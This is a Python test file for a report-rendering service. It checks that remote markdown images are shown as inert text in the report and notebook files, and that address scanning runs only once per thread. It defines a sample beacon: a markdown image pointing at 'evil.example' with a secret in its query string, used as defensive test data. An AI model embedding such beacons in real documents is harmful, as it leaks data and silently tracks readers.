"""Files that people open tell nobody that they were opened."""

from __future__ import annotations

import json

import pytest
from report_cases import SUMMED, case

from core.slack.sanitize import addresses
from core.steps import CellRan
from core.values import StoredFile
from workers.delivery.reports import ReportInput, render_report, values
from workers.delivery.reports.notebook import notebook
from workers.delivery.reports.values import PastReport

BEACON = "![chart](https://evil.example/x.png?d=SECRET)"


def test_a_remote_image_in_a_report_is_shown_as_text_in_every_file() -> None:
    chart = StoredFile(name="sales.png", mimetype="image/png", size=9, sha256="a" * 64)
    ran = CellRan(call_id="1", cell_id="c1", title="Look", code="1", status="ok", figures=(chart,))
    given = ReportInput(
        question="How much? See https://ours.example/a",
        asker="Ana",
        language="en",
        report=f"**42**. {BEACON} [more](https://ours.example/a) ![Sales](sales.png)",
        cells=(ran,),
    )
    files = {file.name: file.data.decode() for file in render_report(given).files}
    book = json.loads(files["analysis.ipynb"])
    texts = [files["report.md"], *("".join(cell["source"]) for cell in book["cells"])]
    assert not any("](https://evil.example" in text for text in texts)
    assert "`https://evil.example/x.png?d=SECRET`" in files["report.md"]
    assert "![Sales](sales.png)" in files["report.md"]
    assert "[more](https://ours.example/a)" in files["report.md"]


def test_the_files_of_a_report_look_through_its_thread_once_however_many_cells_it_has(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    looks: list[str] = []

    def looked(text: str) -> frozenset[str]:
        looks.append(text)
        return addresses(text)

    monkeypatch.setattr(values, "addresses", looked)
    cells = tuple(SUMMED.model_copy(update={"cell_id": f"T1/c{n}", "title": f"Step {n} *of* many"}) for n in range(60))
    past = tuple(PastReport(f"question {n} of https://ours.example/{n}", "R") for n in range(40))
    given = case("R [a](https://ours.example/39)", earlier=cells, past=past)
    assert "[a](https://ours.example/39)" in notebook(given) + given.safe_report
    assert len(looks) == len(past) + 1
    assert given.numbered is given.numbered
    assert given.parts is given.parts
